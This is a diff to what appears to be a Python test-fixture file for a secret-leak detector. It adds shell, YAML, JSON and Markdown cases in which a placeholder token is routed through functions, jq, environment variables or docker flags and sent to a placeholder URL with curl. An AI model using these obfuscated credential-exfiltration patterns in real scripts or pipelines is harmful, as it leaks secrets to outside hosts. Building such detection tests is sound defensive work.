@@ -372,6 +372,12 @@ IN_SHELL = {
     "printf of a variable": (
         f"K=SECRET; printf '{{\"cname\":\"a\",\"uid\":5,\"clientRequest\":{{\"token\":\"%s\"}}}}' \"$K\" | curl -d @- {URL}\n"
     ),
+    "what a function prints": f"get() {{ echo SECRET; }}; {sent('$(get)')}\n",
+    "what a function prints in a branch": f"get() {{ case $1 in a) echo SECRET;; esac; }}; {sent('$(get a)')}\n",
+    "what a function prints of its argument": f"get() {{ printf %s $1; }}; K=$(get SECRET); {sent('$K')}\n",
+    "positions of jq": (
+        f"jq -n --args '{{cname:\"x\",uid:5,clientRequest:{{token:$ARGS.positional[0]}}}}' SECRET; {sent('x')}\n"
+    ),
     "a default that is set": f": ${{K:=SECRET}}; {sent('$K')}\n",
     "a default in quotes that is set": f": \"${{K:=SECRET}}\"; {sent('$K')}\n",
     "a default elsewhere": f"echo ${{K:-SECRET}}; {sent('$K')}\n",
@@ -402,6 +408,28 @@ IN_SHELL = {
         f"go() {{\ncurl -d @- {URL} <<EOF\n{{\"cname\":\"a\",\"clientRequest\":{{\"token\":\"$1\"}},\"uid\":5}}\nEOF\n}}; go SECRET\n"
     ),
 }  # fmt: skip
+IN_HOSTS |= {
+    f"{number} of the environment.yaml": f"{given}\n  run: |\n    {sent('$K')}\n"
+    for number, given in enumerate(
+        (
+            "- env: # a\n    K: SECRET",
+            "- env: # a\n    K: 'SECRET'",
+            "- env: # a\n    - K=SECRET",
+            "- env: # a\n    - name: K\n      value: SECRET",
+            "- env:\n    - {name: K,\n       value: SECRET}",
+            "- x: docker run -e K=SECRET a",
+            "- x: docker run --env K='SECRET' a",
+        )
+    )
+}
+IN_HOSTS |= {
+    "a script in quotes.yaml": "run: " + json.dumps(f"set -e\n{IN_SHELL['an argument']}start 'SECRET'\n") + "\n",
+    "a script in quotes.json": json.dumps({"run": f"set -e\n{IN_SHELL['a list over lines']}"}, indent=1),
+    "a script in a quote.md": "> ```sh\n> " + IN_SHELL["a list over lines"].replace("\n", "\n> ") + "```\n",
+    "lines of a script.json": json.dumps(
+        {"run": IN_SHELL["an argument"].replace("; start", "\nstart").splitlines()}, indent=1
+    ),
+}
 IN_HOSTS |= {f"{way}.sh": text for way, text in IN_SHELL.items()}
 IN_HOSTS |= {
     f"{way}.yaml": "steps:\n- run: |\n    " + IN_SHELL[way].replace("\n", "\n    ") + "\n"
